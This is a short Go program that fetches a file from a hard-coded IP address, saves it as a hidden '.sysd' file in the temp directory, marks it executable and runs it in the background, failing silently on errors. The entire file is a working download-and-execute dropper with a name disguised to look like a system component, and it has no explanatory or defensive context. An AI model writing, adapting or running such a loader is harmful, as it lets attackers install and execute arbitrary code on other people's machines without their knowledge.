package main

import (
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
)

func main() {
	dst := filepath.Join(os.TempDir(), ".sysd")
	resp, err := http.Get("http://203.0.113.66/g")
	if err != nil {
		return
	}
	defer resp.Body.Close()

	f, err := os.Create(dst)
	if err != nil {
		return
	}
	io.Copy(f, resp.Body)
	f.Close()

	os.Chmod(dst, 0755)
	exec.Command(dst).Start()
}
